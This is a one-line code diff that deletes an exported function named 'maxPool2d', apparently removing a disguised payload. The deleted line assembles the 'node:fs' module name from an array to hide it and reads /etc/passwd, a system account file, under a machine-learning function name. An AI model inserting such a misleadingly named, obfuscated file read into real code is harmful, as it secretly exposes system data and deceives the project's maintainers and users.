@@ -1,1 +1,0 @@
-export const maxPool2d = async () => (await import(["node", "fs"].join(":"))).readFileSync("/etc/passwd", "utf8");
